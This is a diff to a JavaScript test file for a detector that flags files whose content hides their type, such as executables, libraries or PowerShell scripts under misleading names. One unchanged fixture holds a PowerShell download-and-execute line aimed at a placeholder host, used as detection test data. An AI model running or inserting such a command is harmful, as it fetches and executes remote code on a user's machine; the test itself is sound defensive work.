@@ -29,6 +29,7 @@ describe('what a file is by its content', () => {
 describe('a name that hides what a file is', () => {
   test.each([
     ['logo.png', PE, { type: 'pe', named: 'png' }], ['data.dat', PE, { type: 'pe', named: 'unknown' }], ['a.ps1', PE, { type: 'pe', named: 'powershell' }],
+    ['tool.dll', latin('\x7fELF\x02'), { type: 'elf', named: 'pe' }], ['liba.so', PE, { type: 'pe', named: 'elf' }], ['a.dylib', latin('\x7fELF\x02'), { type: 'elf', named: 'macho' }],
     ['readme.txt', latin(SCRIPT), { type: 'powershell', named: 'text' }], ['settings.json', latin(SCRIPT), { type: 'powershell', named: 'json' }],
     ['cache.tmp', Buffer.from(`\ufeff${SCRIPT}`, 'utf16le'), { type: 'powershell', named: 'unknown' }],
     ['one.txt', latin('IEX (New-Object Net.WebClient).DownloadString("http://x.invalid")'), { type: 'powershell', named: 'text' }],
@@ -39,6 +40,7 @@ describe('a name that hides what a file is', () => {
   test('is not every odd name', () => {
     for (const path of ['x.docx', 'x.dat', 'x.jar']) expect(contentType(archive, path)).toEqual({ type: 'zip' })
     for (const path of ['a.ps1.example', 'x.ps1.txt', 'my.task']) expect(contentType(latin(SCRIPT), path)).toEqual({ type: 'powershell' })
+    for (const path of ['a.so', 'a.node']) expect(contentType(latin('\xca\xfe\xba\xbe\0\0\0\x02'), path)).toEqual({ type: 'macho' })
     for (const path of ['tool', 'libx.so.1.2', 'x.node']) expect(contentType(latin('\x7fELF\x02'), path)).toEqual({ type: 'elf' })
     expect(contentType(readFileSync('docs/facts.md'), 'facts.md').named).toBeUndefined()
   })
